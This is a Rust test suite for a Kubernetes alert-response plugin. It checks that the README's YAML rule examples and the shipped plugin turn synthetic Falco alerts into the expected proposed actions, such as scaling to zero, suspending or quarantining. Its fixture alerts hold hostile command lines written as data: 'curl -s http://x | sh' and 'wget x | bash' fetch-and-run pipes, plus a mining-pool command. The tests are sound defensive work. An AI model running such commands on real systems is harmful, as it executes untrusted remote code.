//! What ships as an example is loaded, and grants what it proposes.

use riposte_responses::testing::{Entry, alert_with, web};
use riposte_sdk::testing;
use rules::rules;
use serde_json::Value;

const README: &str = include_str!("../../README.md");

/// The YAML blocks of the README, each a list of plugins with one entry.
fn examples() -> Vec<Entry> {
    let blocks = README.split("```yaml\n").skip(1).filter_map(|rest| rest.split("```").next());
    let one = |block: &str| {
        let document: Value = serde_yaml::from_str(block).expect("YAML");
        let plugins = document["plugins"].as_array().expect("a list of plugins");
        assert_eq!(plugins.len(), 1, "{block}");
        Entry::read::<rules>(&plugins[0].to_string())
    };
    blocks.map(one).collect()
}

/// What an example does with an alert on a pod that this kind owns.
fn decided(entry: &Entry, alert: &str, namespace: &str, kind: &str) -> String {
    let mut owner = web(kind);
    owner.namespace = Some(namespace.to_owned());
    let manifest = format!(
        "{{apiVersion: {}, kind: {}, metadata: {{name: web, namespace: {namespace}}}, \
         spec: {{selector: {{matchLabels: {{app: web}}}}}}}}",
        owner.api_version, owner.kind
    );
    let setup = entry.setup::<rules>().desired_state(&manifest).owner(namespace, "web-0", &owner);
    let decided = setup.handle(testing::falco(&alert.replace("NS", namespace)));
    if decided.answer.is_ok() {
        entry.assert_grants(&decided);
    }
    decided.to_string()
}

#[test]
fn every_example_of_the_readme_does_what_it_says() {
    let on = |rest: &str| format!(r#"{{{rest}"k8s.ns.name":"NS","k8s.pod.name":"web-0"}}}}"#);
    let shell = on(r#""rule":"Terminal shell in container","priority":"Notice","output_fields":{"#);
    let critical = on(r#""rule":"Other","priority":"Critical","output_fields":{"#);
    let miner = on(
        r#""rule":"Other","tags":["mitre_execution"],"output_fields":{"proc.cmdline":"x stratum+tcp://pool","#,
    );
    let download = on(
        r#""rule":"Other","priority":"Notice","output_fields":{"proc.cmdline":"sh -c curl -s http://x | sh","#,
    );
    let build = on(
        r#""rule":"Other","priority":"Notice","output_fields":{"proc.cmdline":"wget x | bash","proc.pname":"entrypoint.sh","container.image":"registry.example.com/a","#,
    );
    let api = on(r#""rule":"Contact K8S API Server From Container","output_fields":{"#);
    let out = on(r#""rule":"Unexpected outbound connection","output_fields":{"fd.sip":"8.8.8.8","#);
    let urgent = on(r#""rule":"Unexpected outbound connection","priority":"Alert","output_fields":{"#);
    let inside = on(r#""rule":"Unexpected outbound connection","output_fields":{"fd.sip":"10.1.2.3","#);
    let (deployment, job) = ("apps/v1/Deployment", "batch/v1/Job");
    let table = [
        (0, &shell, "shop", deployment, "propose: Scale shop/web to 0"),
        (0, &shell, "blog", deployment, "ignore: no rule matches: tried \"shells in the shop\" (namespace)"),
        (1, &critical, "monitoring-eu", deployment, "ignore: rule \"monitoring may look around\" matches"),
        (1, &shell, "shop-eu", deployment, "propose: Scale shop-eu/web to 0"),
        (1, &critical, "blog", job, "propose: Suspend blog/web"),
        (1, &critical, "blog", deployment, "propose: Scale blog/web to 0"),
        (1, &shell, "blog", deployment, "ignore: no rule matches"),
        (2, &miner, "shop", deployment, "propose: Scale shop/web to 0"),
        (2, &download, "shop", deployment, "propose: Scale shop/web to 0"),
        (2, &build, "shop", deployment, "ignore: no rule matches"),
        (2, &api, "blog", deployment, "propose: Drop the token of blog/web"),
        (3, &out, "team-a", deployment, "propose: Quarantine team-a/web"),
        (3, &urgent, "team-a", deployment, "propose: Isolate team-a/web"),
        (
            3,
            &inside,
            "team-a",
            deployment,
            "ignore: no rule matches: tried \"data leaves the cluster, urgently\"",
        ),
    ];
    let examples = examples();
    assert_eq!(examples.len(), 4);
    for (example, alert, namespace, kind, expected) in table {
        let decided = decided(&examples[example], alert, namespace, kind);
        assert!(decided.starts_with(expected), "example {example}, {alert}: {decided}");
    }
}

#[test]
fn the_entry_that_ships_is_enough() {
    let entry = Entry::read::<rules>(include_str!("../../plugin.yaml"));
    let fields = r#"{"k8s.ns.name":"default","k8s.pod.name":"web-0"}"#;
    let nothing = entry.setup::<rules>().handle(alert_with(fields)).to_string();
    assert_eq!(nothing, "ignore: no rule matches: tried \"shells in jobs\" (rule), \"shells\" (rule)");
    let shell =
        format!(r#"{{"rule":"Terminal shell in container","priority":"Notice","output_fields":{fields}}}"#);
    assert!(
        decided(&entry, &shell, "default", "batch/v1/CronJob").starts_with("propose: Suspend default/web")
    );
    assert!(
        decided(&entry, &shell, "default", "apps/v1/Deployment")
            .starts_with("propose: Scale default/web to 0")
    );
}
